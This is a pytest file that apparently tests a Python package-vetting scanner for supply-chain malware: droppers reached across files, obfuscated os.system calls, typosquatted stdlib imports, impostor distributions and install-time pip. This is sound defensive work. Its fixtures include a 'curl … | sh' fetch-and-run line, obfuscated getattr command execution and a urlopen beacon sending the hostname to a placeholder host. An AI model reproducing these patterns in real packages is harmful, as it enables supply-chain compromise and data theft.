"""General behaviours behind the last misses (issue 16): calls across files, .pth lines that
call their own package, sinks named by aliases or built names, stdlib look-alike imports,
impostor distributions, raw sockets, install-time pip and declared dependencies."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.analysis import scan_python
from airlock.imports.packages.imposture import impostor_of, stdlib_lookalike
from airlock.imports.packages.local import LocalModules, absolute, module_names
from airlock.imports.packages.prefilter import may_act
from airlock.imports.packages.rules import Severity
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import BENIGN, MALICIOUS, sdist, wheel


def _worst(findings: list) -> Severity:  # type: ignore[type-arg]
    return max((f.severity for f in findings), default=Severity.LOW)


@pytest.mark.parametrize(
    ("key", "member"),
    [
        ("exfiltration:environment-across-files", "telemetry/report.py"),
        ("dropper:relative-module-on-import", "relimp/_boot.py"),
        ("dropper:pth-calls-own-module", "pthrun/__init__.py"),
        ("dropper:star-imported-call-on-import", "starx/impl.py"),
    ],
)
def test_a_sink_reached_through_a_sibling_module_counts_as_import_time(
    key: str, member: str
) -> None:
    filename, data = MALICIOUS[key]
    report = vet(filename, data)
    assert report.verdict is Outcome.DENY, report.to_json()
    # the sibling read alone (its function runs only when called) does not deny: the
    # deny comes from following the call made on import
    denied = [f for f in report.findings if f.severity is Severity.CRITICAL]
    assert {f.path for f in denied} == {member}


def test_setup_py_calling_into_its_package_runs_at_install() -> None:
    filename, data = MALICIOUS["dropper:setup-calls-package-module"]
    report = vet(filename, data)
    assert report.verdict is Outcome.DENY
    assert any(
        f.rule == "dropper" and f.path.endswith("buildhelp/steps.py") for f in report.findings
    )
    alone = scan_python(
        "steps.py",
        "import subprocess\n\n\ndef prepare():\n    subprocess.call('curl x', shell=True)\n",
    )
    assert _worst(alone) < Severity.HIGH  # the same function, never called: not a dropper


def test_calls_across_files_that_reach_no_chain_stay_allowed() -> None:
    for name in ("layered-1.0-py3-none-any.whl", "shim-1.0-py3-none-any.whl"):
        assert vet(name, BENIGN[name]).verdict is Outcome.ALLOW


def test_a_call_into_a_side_code_module_weighs_less() -> None:
    data = sdist(
        "sidecall",
        "1.0",
        {
            "tests/__init__.py": "from .helpers import boot\n\nboot()\n",
            "tests/helpers.py": "import subprocess\n\n\ndef boot():\n"
            "    subprocess.call('curl -s http://127.0.0.1:9/x -o /tmp/x', shell=True)\n",
            "sidecall/__init__.py": "def f():\n    return 1\n",
        },
    )
    assert vet("sidecall-1.0.tar.gz", data).verdict is not Outcome.DENY


def test_module_names_and_relative_imports() -> None:
    assert module_names("pkg/sub/mod.py", sdist=False) == ["pkg.sub.mod"]
    assert module_names("pkg/__init__.py", sdist=False) == ["pkg"]
    assert module_names("name-1.0/src/pkg/__init__.py", sdist=True) == ["pkg"]
    assert module_names("name-1.0/setup.py", sdist=True) == ["setup"]
    assert module_names("pkg/data.json", sdist=False) == []
    assert absolute(".util.run", "pkg", is_package=True) == "pkg.util.run"
    assert absolute(".util.run", "pkg.core", is_package=False) == "pkg.util.run"
    assert absolute("..x.f", "pkg.sub.mod", is_package=False) == "pkg.x.f"
    assert absolute("os.system", "pkg", is_package=True) == "os.system"
    local = LocalModules.of({"pkg/__init__.py": b"", "pkg/net.py": b"import socket\n"}, sdist=False)
    assert local.acts("pkg.net")
    assert not local.acts("pkg")
    assert local.is_package("pkg")


@pytest.mark.parametrize(
    "text",
    [
        "import os as o\ngetattr(o, 'sys' + 'tem')('id')\n",
        "getattr(o, 'metsys'[::-1])('id')\n",
        "getattr(o, chr(115) + rest)('id')\n",
        "from http import client\nclient.HTTPSConnection('127.0.0.1')\n",
        "import sys\nm = sys.modules['o' + 's']\ngetattr(m, 'sy' + 'stem')('id')\n",
    ],
)
def test_the_prefilter_sees_built_names_and_bare_sinks(text: str) -> None:
    assert may_act(text)


def test_the_prefilter_still_skips_plain_getattr() -> None:
    assert not may_act("def f(obj, name):\n    return getattr(obj, name, None)\n")
    assert not may_act("value = getattr(obj, 'attr')\n")


def test_a_sink_called_by_its_alias_inside_a_function_is_walked() -> None:
    source = (
        "from os import system as s1\n\n\n"
        "def update():\n    s1('curl -s http://127.0.0.1:9/u | sh')\n"
    )
    assert "dropper" in {f.rule for f in scan_python("a.py", source)}


def test_modules_reached_through_sys_modules_are_hidden_names() -> None:
    source = "import sys\ngetattr(sys.modules['o' + 's'], 'sy' + 'stem')('id')\n"
    found = scan_python("a.py", source)
    assert any(f.rule == "hidden-process" and f.severity is Severity.CRITICAL for f in found)


@pytest.mark.parametrize(
    ("name", "imitated"),
    [
        ("sockets", "socket"),
        ("subproces", "subprocess"),
        ("ujson", None),
        ("pickle5", None),
        ("pathlib2", None),
        ("typer", None),
        ("lxml", None),
        ("socket", None),
        ("requests", None),
        # one of the most downloaded projects' own names is not the attacker's (ADR 0141)
        ("asgiref", None),
        ("bcrypt", None),
        ("wsgirefs", "wsgiref"),
    ],
)
def test_stdlib_lookalikes(name: str, imitated: str | None) -> None:
    assert stdlib_lookalike(name) == imitated


def test_a_declared_or_shipped_lookalike_is_not_reported() -> None:
    source: dict[str, str | bytes] = {"pkg/__init__.py": "import sockets\n"}
    # Declared by its own look-alike name, which an attacker declares as easily as they
    # import it: only an established project explains it (ADR 0132; allowed before).
    declared = wheel("pkg", "1.0", source, requires="Requires-Dist: sockets>=1\n")
    assert vet("pkg-1.0-py3-none-any.whl", declared).verdict is Outcome.HOLD
    bcrypt: dict[str, str | bytes] = {"pkg/__init__.py": "import bcrypt\n"}
    established = wheel("pkg", "1.0", bcrypt, requires="Requires-Dist: bcrypt>=4\n")
    assert vet("pkg-1.0-py3-none-any.whl", established).verdict is Outcome.ALLOW
    shipped = wheel("pkg", "1.0", {**source, "sockets/__init__.py": "X = 1\n"})
    assert vet("pkg-1.0-py3-none-any.whl", shipped).verdict is Outcome.ALLOW
    guarded = wheel(
        "pkg",
        "1.0",
        {"pkg/__init__.py": "try:\n    import sockets\nexcept ImportError:\n    sockets = None\n"},
    )
    assert vet("pkg-1.0-py3-none-any.whl", guarded).verdict is Outcome.ALLOW
    # the description mentioning the word is not a declaration
    described = wheel("pkg", "1.0", source, summary="A client that uses sockets")
    assert vet("pkg-1.0-py3-none-any.whl", described).verdict is Outcome.HOLD


def test_an_undeclared_import_of_an_established_project_is_no_lookalike() -> None:
    # asgiref comes with Django or Airflow; cosmos imports it without declaring it.
    source: dict[str, str | bytes] = {"pkg/__init__.py": "import asgiref\n"}
    assert vet("pkg-1.0-py3-none-any.whl", wheel("pkg", "1.0", source)).verdict is Outcome.ALLOW
    squat: dict[str, str | bytes] = {"pkg/__init__.py": "import wsgirefs\n"}
    assert vet("pkg-1.0-py3-none-any.whl", wheel("pkg", "1.0", squat)).verdict is Outcome.HOLD


def test_impostor_rule() -> None:
    meta = "Project-URL: Homepage, https://github.com/example/acme-widgets\n"
    assert impostor_of("acme-upgrade", meta, frozenset({"acme_widgets"})) == "acme-widgets"
    assert impostor_of("acme-widgets", meta, frozenset({"acme_widgets"})) is None
    assert impostor_of("python-acme-widgets", meta, frozenset({"acme_widgets"})) is None
    assert impostor_of("acme-widgets-fork", meta, frozenset({"acme_widgets"})) is None
    assert impostor_of("acme-upgrade", meta, frozenset({"upgrade"})) is None
    source = "Project-URL: Source Code, https://github.com/example/widget\n"
    assert impostor_of("widgetio", source, frozenset({"widget"})) is None
    home = "Home-page: https://github.com/dateutil/dateutil\n"
    assert impostor_of("python-dateutil", home, frozenset({"dateutil"})) is None


def test_install_time_pip_holds_but_local_and_later_installs_do_not() -> None:
    assert vet(*MALICIOUS["install-time-pip"]).verdict is Outcome.HOLD
    local = (
        "import subprocess, sys\n"
        "subprocess.check_call([sys.executable, '-m', 'pip', 'install', '-e', '.'])\n"
    )
    assert _worst(scan_python("setup.py", local, install_time=True)) < Severity.HIGH
    later = "import subprocess\n\n\ndef add(p):\n    subprocess.check_call(['pip', 'install', p])\n"
    assert _worst(scan_python("tool.py", later)) < Severity.HIGH


def test_raw_socket_traffic_is_a_network_sink() -> None:
    report = vet(*MALICIOUS["exfiltration:raw-socket"])
    assert report.verdict is Outcome.DENY
    ping = "import socket\n\n\ndef ping(h):\n    s = socket.socket()\n    s.connect((h, 80))\n"
    assert _worst(scan_python("p.py", ping)) < Severity.MEDIUM


def test_a_lookalike_that_installs_what_it_imitates_denies() -> None:
    report = vet(*MALICIOUS["squatting-install"])
    assert report.verdict is Outcome.DENY
    unrelated = sdist(
        "plotkit",
        "0.1",
        {
            "setup.py": "from setuptools import setup\nfrom pip._internal import main\n\n"
            "main(['install', 'numpy'])\nsetup(name='plotkit', version='0.1')\n",
            "plotkit/__init__.py": "def plot():\n    return 1\n",
        },
    )
    assert vet("plotkit-0.1.tar.gz", unrelated).verdict is Outcome.HOLD


def test_a_package_that_pretends_and_acts_on_install_denies() -> None:
    filename, data = MALICIOUS["pretender-acts"]
    assert vet(filename, data).verdict is Outcome.DENY
    setup = (
        "import urllib.request\nfrom setuptools import setup\n\n"
        "urllib.request.urlopen('http://example.invalid/installed')\nsetup(name='real')\n"
    )
    with_code = sdist("real", "0.1", {"setup.py": setup, "real/__init__.py": "X = 1\n"})
    assert vet("real-0.1.tar.gz", with_code).verdict is Outcome.HOLD  # acts, pretends not


@pytest.mark.parametrize("key", ["exfiltration:thread-on-import", "exfiltration:dns-resolver"])
def test_host_data_sent_from_an_import_time_thread_or_dns_denies(key: str) -> None:
    assert vet(*MALICIOUS[key]).verdict is Outcome.DENY


def test_a_thread_started_later_is_not_import_time() -> None:
    source = (
        "import platform, threading, urllib.request\n\n\n"
        "def beacon():\n"
        "    urllib.request.urlopen('http://example.invalid/?h=' + platform.node())\n\n\n"
        "def start():\n    threading.Thread(target=beacon).start()\n"
    )
    assert _worst(scan_python("t.py", source)) < Severity.HIGH
